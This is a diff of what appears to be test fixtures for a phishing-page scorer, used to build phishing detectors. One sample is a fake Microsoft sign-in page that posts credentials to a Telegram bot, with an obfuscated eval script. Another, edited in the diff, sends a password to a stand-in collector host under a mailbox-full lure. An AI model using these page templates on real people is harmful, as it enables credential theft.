@@ -37,10 +37,14 @@ PHISH = """<!doctype html><html><head><title>Sign in to your Microsoft account</
 <h1>Microsoft</h1><form action="https://api.telegram.org/bot123:abc/sendMessage" method="post">
 <label>Email</label><input type="email" name="u"><label>Password</label><input type="password" name="p">
 <button>Sign in</button></form><script>var x = eval(atob('YWxlcnQoMSk='));</script></body></html>"""
+# A password form sent to another site under a mailbox-full lure, on a page with other links:
+# SUSPICIOUS for the page scorer (a foreign form action alone is ordinary on real sign-up pages),
+# short of MALICIOUS.
 SUSPICIOUS = """<!doctype html><html><head><title>Portal</title></head><body><h1>Welcome</h1>
-<p>Please log in to continue.</p><form action="https://collector.example.net/p" method="post">
+<p>Your mailbox storage is full. Please log in to continue.</p>
+<form action="https://collector.example.net/p" method="post">
 <input type="password" name="p"></form><p><a href="/help">Help</a> <a href="/terms">Terms</a>
-<a href="/privacy">Privacy</a></p></body></html>"""
+<a href="/privacy">Privacy</a> <a href="/contact">Contact</a></p></body></html>"""
 BENIGN = """<!doctype html><html lang="en"><head><title>Cats</title></head><body><h1>Cats</h1>
 <p>Cats are small carnivorous mammals. <a href="/a">More</a> <a href="/b">Even more</a></p></body></html>"""
 
